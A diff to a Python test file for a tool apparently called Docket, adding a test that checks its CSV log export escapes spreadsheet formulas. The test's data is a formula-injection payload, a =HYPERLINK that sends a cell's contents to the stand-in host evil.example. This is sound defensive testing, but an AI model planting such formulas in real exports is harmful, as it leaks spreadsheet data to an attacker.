@@ -1,7 +1,9 @@
 # SPDX-License-Identifier: GPL-3.0-or-later
 """What Docket keeps and how it proves it: the log's chain, backups, a damaged database, whom it talked to, and where the token is not."""
 import base64
+import csv
 import glob
+import io
 import json
 import os
 import re
@@ -29,6 +31,18 @@ def prints_no_terminal_escapes(docket, site):
                   docket.run("--json", "show", hostile["id"]), docket.said):
         assert not [c for c in words if (ord(c) < 32 and c not in "\n\t") or 0x7f <= ord(c) < 0xa0], repr(words)
     assert title["id"] == hostile["id"]
+
+
+def exports_no_formulas(docket):
+    reason = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\"), \"and\" more"
+    hostile = [one for one in docket.json("queue", "--state", "all") if one["item"] == "OPS-5"][0]
+    docket.run("reject", hostile["id"], "--reason", reason)
+    rows = list(csv.reader(io.StringIO(docket.run("log", "--csv"), newline="")))
+    entries = docket.json("log")
+    assert len(rows) == len(entries) + 1 and {len(row) for row in rows} == {12}, rows
+    assert [row[10] for row in rows if "HYPERLINK" in row[10]] == ["'" + reason], rows
+    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert [row[11] for row in rows[1:]] == [entry["hash"] for entry in entries]
 
 
 def database_of(docket):
@@ -207,6 +221,7 @@ def main():
             said = docket.said
             mark = proves_the_log(docket, site)
             prints_no_terminal_escapes(docket, site)
+            exports_no_formulas(docket)
             backup = backs_up_without_overwriting(docket)
             tells_whom_it_talked_to(docket, site)
             names_what_was_tampered_with(docket, mark)
